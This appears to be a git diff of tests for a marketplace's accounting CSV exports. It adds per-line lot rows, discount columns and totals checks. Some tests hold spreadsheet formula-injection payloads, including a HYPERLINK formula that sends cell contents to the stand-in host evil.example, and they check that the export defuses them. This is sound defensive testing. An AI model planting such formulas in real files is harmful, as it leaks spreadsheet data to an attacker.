@@ -2,6 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type TestApp, createTestApp } from '@test/app';
 import { createUser, signIn } from '@test/factories';
 import { TestClient } from '@test/http';
+import { insertLotOrder, threeItemLot } from '@test/lot-order-factory';
 import { orderParties, paidOrder } from '@test/order-factories';
 import { randomUUID } from 'node:crypto';
 import { accountBalances } from '../ledger/ledger-balances';
@@ -48,12 +49,12 @@ describe('accounting exports', () => {
     expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
     const [header, ...rows] = lines(response.body);
     expect(header).toBe(
-      'N° commande;Date (UTC);Statut;Acheteur;Vendeur;Produit;Prix;Livraison;Total;Commission;Part vendeur;Mode de paiement;Paiement',
+      'N° commande;Date (UTC);Statut;Acheteur;Vendeur;Ligne;Produit;Prix avant remise;Remise lot;Prix;Livraison (1re ligne);Total;Commission;Part vendeur;Mode de paiement;Paiement',
     );
     const row = rows.find((line) => line.includes('Fatou Vendeuse') && line.includes('HYPERLINK'));
     // The title is quoted (it holds ';' and '"') and defused with a leading apostrophe.
     expect(row).toContain(`"'=HYPERLINK(""http://x.test"";""Perruque"")"`);
-    expect(row).toMatch(/;100,00;6,99;106,99;5,00;95,00;Virement bancaire;Payé$/);
+    expect(row).toMatch(/;1 sur 1;.*;100,00;0,00;100,00;6,99;106,99;5,00;95,00;Virement bancaire;Payé$/);
 
     const logged = await t.ctx.db
       .selectFrom('admin_logs')
@@ -62,6 +63,34 @@ describe('accounting exports', () => {
       .where('action', '=', 'export_accounting')
       .execute();
     expect(logged).toEqual([{ action: 'export_accounting', target_id: 'orders' }]);
+  });
+
+  it('writes one row per line of a lot, the delivery once, and the rows add up to the order (decision 065)', async () => {
+    const p = await orderParties(t);
+    const { orderId } = await insertLotOrder(t, { buyerId: p.buyer.id, sellerId: p.seller.id }, threeItemLot, {
+      percent: 10,
+    });
+    const order = await t.ctx.db
+      .selectFrom('orders')
+      .selectAll()
+      .where('id', '=', orderId)
+      .executeTakeFirstOrThrow();
+    const csv = (await p.adminClient.get(`/api/admin/accounting/orders.csv?from=${day()}&to=${day()}`)).body;
+    const rows = lines(csv).filter((line) => line.startsWith(`${order.order_number};`));
+    expect(rows.map((line) => line.split(';').slice(5, 14).join(';'))).toEqual([
+      '1 sur 3;Perruque lace frontal 20 pouces;50,00;5,00;45,00;6,99;51,99;2,25;42,75',
+      '2 sur 3;Colle Bold Hold 40 ml;15,00;1,50;13,50;0,00;13,50;0,68;12,82',
+      '3 sur 3;Bonnet en satin;10,00;1,00;9,00;0,00;9,00;0,45;8,55',
+    ]);
+    const cents = (column: number) =>
+      rows.reduce((sum, line) => sum + Math.round(Number(line.split(';')[column]?.replace(',', '.')) * 100), 0);
+    expect([cents(9), cents(10), cents(11), cents(12), cents(13)]).toEqual([
+      order.price_cents,
+      order.delivery_cost_cents,
+      order.total_amount_cents,
+      order.commission_cents,
+      order.seller_amount_cents,
+    ]);
   });
 
   it('defuses a party name or a title that a spreadsheet would run, in both exports', async () => {
@@ -76,7 +105,7 @@ describe('accounting exports', () => {
     const defused = `"'-1+HYPERLINK(""https://evil.example/?""&A1,""Voir"")"`;
     const orders = lines((await p.adminClient.get(`/api/admin/accounting/orders.csv?from=${day()}&to=${day()}`)).body);
     const row = orders.find((line) => line.includes('evil.example'));
-    expect(row).toContain(`;${defused};${defused};'-2+3;20,00;`);
+    expect(row).toContain(`;${defused};${defused};1 sur 1;'-2+3;20,00;`);
     const ledger = lines((await p.adminClient.get(`/api/admin/accounting/ledger.csv?from=${day()}&to=${day()}`)).body);
     const partyLines = ledger.filter((line) => line.includes('evil.example'));
     expect(partyLines.length).toBeGreaterThan(0);
